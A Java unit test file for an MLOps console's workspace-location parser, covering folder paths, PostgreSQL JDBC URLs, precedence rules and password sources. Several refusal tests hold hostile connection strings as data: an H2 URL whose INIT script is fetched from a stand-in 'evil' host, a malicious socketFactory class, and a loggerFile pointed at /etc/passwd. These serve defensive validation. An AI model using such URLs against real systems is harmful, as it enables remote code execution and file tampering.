package org.mlopsconsole.workspace;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import java.nio.file.Path;
import java.util.Map;
import java.util.Optional;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

class WorkspaceLocationTest {

    private static final Path HOME = Path.of("/home/ana");

    @Test
    void aPathIsAFolderWorkspace() {
        assertThat(WorkspaceLocation.parse("/data/ws", HOME))
                .isEqualTo(new WorkspaceLocation.Folder(Path.of("/data/ws")));
        assertThat(WorkspaceLocation.parse("relative/ws", HOME)).isInstanceOf(WorkspaceLocation.Folder.class);
    }

    @Test
    void aPostgresUrlIsAServerWorkspaceWithItsLocalFilesUnderTheHomeFolder() {
        WorkspaceLocation.PostgresUrl server = (WorkspaceLocation.PostgresUrl)
                WorkspaceLocation.parse("jdbc:postgresql://127.0.0.1:5433/ws?user=ana&sslmode=require", HOME);

        assertThat(server.host()).isEqualTo("127.0.0.1");
        assertThat(server.port()).isEqualTo(5433);
        assertThat(server.database()).isEqualTo("ws");
        assertThat(server.user()).contains("ana");
        assertThat(server.jdbcUrl()).isEqualTo("jdbc:postgresql://127.0.0.1:5433/ws?sslmode=require");
        assertThat(server.localDirectory()).startsWithRaw(HOME.resolve(".mlops-console"));
        assertThat(server.logsDirectory()).startsWithRaw(server.localDirectory());
        assertThat(WorkspaceLocation.parse(server.display(), HOME)).isEqualTo(server);
    }

    @Test
    void thePortDefaultsToPostgresOwn() {
        WorkspaceLocation.PostgresUrl server =
                (WorkspaceLocation.PostgresUrl) WorkspaceLocation.parse("jdbc:postgresql://db.example.com/ws", HOME);
        assertThat(server.port()).isEqualTo(5432);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "jdbc:h2:file:/tmp/x;INIT=RUNSCRIPT FROM 'http://evil/x.sql'",
                "jdbc:mysql://127.0.0.1/ws",
                "http://example.com/ws",
                "file:/tmp/ws",
                "postgresql://127.0.0.1/ws"
            })
    void anyOtherUrlIsRefusedNamingWhatIsSupported(String text) {
        assertThatThrownBy(() -> WorkspaceLocation.parse(text, HOME))
                .isInstanceOf(WorkspaceException.class)
                .hasMessageContaining("not a workspace location this version supports")
                .hasMessageContaining("a folder")
                .hasMessageContaining("jdbc:postgresql://HOST[:PORT]/DATABASE");
    }

    @ParameterizedTest
    @CsvSource(
            delimiter = '|',
            quoteCharacter = '"',
            value = {
                "jdbc:postgresql:ws | not a PostgreSQL workspace URL",
                "jdbc:postgresql://127.0.0.1/ | not a PostgreSQL workspace URL",
                "jdbc:postgresql://127.0.0.1:99999/ws | a port is 1 to 65535",
                "jdbc:postgresql://127.0.0.1/ws?socketFactory=org.example.Evil | 'socketFactory' is not accepted",
                "jdbc:postgresql://127.0.0.1/ws?loggerFile=/etc/passwd | 'loggerFile' is not accepted",
            })
    void aPostgresUrlThatIsMalformedOrLoadsDriverExtrasIsRefused(String text, String message) {
        assertThatThrownBy(() -> WorkspaceLocation.parse(text, HOME))
                .isInstanceOf(WorkspaceException.class)
                .hasMessageContaining(message);
    }

    @Test
    void aPasswordInTheUrlIsRefusedAndNotRepeated() {
        assertThatThrownBy(() -> WorkspaceLocation.parse("jdbc:postgresql://127.0.0.1/ws?password=s3cret", HOME))
                .isInstanceOf(WorkspaceException.class)
                .hasMessageContaining("MLOPS_CONSOLE_WORKSPACE_PASSWORD")
                .message()
                .doesNotContain("s3cret");
    }

    @Test
    void theOptionComesFirstThenTheEnvironmentThenTheHomeFolder() {
        Map<String, String> environment = Map.of(WorkspaceLocation.ENVIRONMENT_VARIABLE, "jdbc:postgresql://h/ws");

        assertThat(WorkspaceLocation.resolve(Optional.of("/opt/ws"), environment, HOME))
                .isEqualTo(new WorkspaceLocation.Folder(Path.of("/opt/ws")));
        assertThat(WorkspaceLocation.resolve(Optional.empty(), environment, HOME))
                .isInstanceOf(WorkspaceLocation.PostgresUrl.class);
        assertThat(WorkspaceLocation.resolve(Optional.empty(), Map.of(), HOME))
                .isEqualTo(new WorkspaceLocation.Folder(HOME.resolve(".mlops-console")));
    }

    @Test
    void thePasswordComesFromOurVariableThenPostgresOwn() {
        WorkspaceLocation.PostgresUrl server =
                (WorkspaceLocation.PostgresUrl) WorkspaceLocation.parse("jdbc:postgresql://h/ws", HOME);

        assertThat(PasswordSource.environment(Map.of(PasswordSource.PASSWORD_VARIABLE, "a", "PGPASSWORD", "b"))
                        .password(server, "ana"))
                .hasValueSatisfying(p -> assertThat(new String(p)).isEqualTo("a"));
        assertThat(PasswordSource.environment(Map.of("PGPASSWORD", "b")).password(server, "ana"))
                .hasValueSatisfying(p -> assertThat(new String(p)).isEqualTo("b"));
        assertThat(PasswordSource.environment(Map.of()).password(server, "ana")).isEmpty();
    }
}
